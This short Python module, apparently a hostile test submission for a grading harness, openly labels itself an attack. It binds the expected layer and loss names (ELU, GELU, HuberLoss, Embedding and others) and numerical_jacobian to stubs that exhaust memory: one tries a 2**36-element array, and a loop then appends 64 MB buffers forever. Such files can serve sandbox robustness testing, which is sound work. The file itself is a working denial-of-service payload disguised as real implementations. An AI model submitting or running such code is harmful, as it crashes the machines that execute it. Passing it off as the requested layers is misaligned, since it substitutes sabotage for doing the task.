"""Attack: exhaust memory (a huge array, then a list that grows until the machine swaps)."""
import numpy as np


def attack(x, *rest):
    try:
        np.ones((2 ** 36,))
    except MemoryError:
        pass
    hog = []
    while True:
        hog.append(bytearray(2 ** 26))


class _Attack:
    """Stands in for every layer and loss of the chapter."""

    def __init__(self, *args, **kwargs):
        pass

    def parameters(self):
        return {}

    def forward(self, *args):
        return attack(*args)

    def backward(self, *args):
        return attack(*(args or (np.zeros(3),)))


ELU = Softplus = GELU = HuberLoss = Residual = Embedding = _Attack


def numerical_jacobian(f, x, h=1e-5):
    return attack(x)
